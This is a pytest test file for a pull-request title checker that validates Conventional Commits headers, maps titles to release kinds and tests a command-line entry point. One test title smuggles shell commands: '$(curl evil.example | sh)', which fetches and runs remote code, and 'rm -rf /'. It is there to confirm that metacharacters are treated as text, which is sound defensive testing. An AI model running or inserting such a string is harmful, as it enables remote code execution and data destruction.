import json
from pathlib import Path

import pytest

from tools.delivery.cli import main
from tools.delivery.pr_title import release_kind, title_problems


@pytest.mark.parametrize(
    "title",
    [
        "feat: add CSV export",
        "feat(reports): add CSV export",
        "fix(reports, billing): retry on throttling",
        "feat!: drop the v1 API",
        "refactor(stack/libs)!: rename settings",
        "build(deps): regenerate lockfiles",
        'Revert "feat(reports): add CSV export"',
    ],
)
def test_conventional_titles_pass(title: str) -> None:
    assert title_problems(title) == []


@pytest.mark.parametrize(
    ("title", "expected"),
    [
        ("Add CSV export", "is not '<type>[(scope)][!]: <description>'"),
        ("feature: add CSV export", "type 'feature' is not one of"),
        ("feat:add CSV export", "is not '<type>[(scope)][!]: <description>'"),
        ("feat(Reports): add", "scope 'Reports' must be lower-case"),
        ("feat(): add", "scope '' must be lower-case"),
        ("fix:  ", "the description after ': ' is empty"),
        ("fix:  padded ", "the description starts or ends with white space"),
        ("", "the title is empty"),
        ("feat: " + "x" * 100, "keep it to 100"),
        ("feat: one\nline two", "the title spans lines"),
        ('Revert "oops"', "reverted title:"),
        # Shell metacharacters are just text to the checker.
        ('feat: $(curl evil.example | sh) `id` "; rm -rf /', None),
    ],
)
def test_other_titles_are_refused_with_a_reason(title: str, expected: str | None) -> None:
    problems = title_problems(title)
    if expected is None:
        assert problems == []
    else:
        assert any(expected in problem for problem in problems), problems


@pytest.mark.parametrize(
    ("title", "kind"),
    [
        ("feat: x", "minor"),
        ("fix(reports): x", "patch"),
        ("perf: x", "patch"),
        ("docs: x", None),
        ("chore!: x", "major"),
        ("nonsense", None),
    ],
)
def test_release_kind(title: str, kind: str | None) -> None:
    assert release_kind(title) == kind


def test_cli_reads_the_title_from_the_event_payload(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    event = tmp_path / "event.json"
    event.write_text(json.dumps({"pull_request": {"number": 7, "title": "feat(reports): add export"}}))
    assert main(["check-title", "--event-name", "pull_request", "--event-path", str(event)]) == 0
    assert json.loads(capsys.readouterr().out) == {"problems": [], "release": "minor", "valid": True}

    event.write_text(json.dumps({"pull_request": {"number": 7, "title": "Update stuff"}}))
    with pytest.raises(SystemExit, match="not a Conventional Commits header"):
        main(["check-title", "--event-name", "pull_request", "--event-path", str(event)])


def test_cli_checks_a_given_title() -> None:
    assert main(["check-title", "--title", "docs: explain alarms"]) == 0
    with pytest.raises(SystemExit, match="type 'wip' is not one of"):
        main(["check-title", "--title", "wip: stuff"])
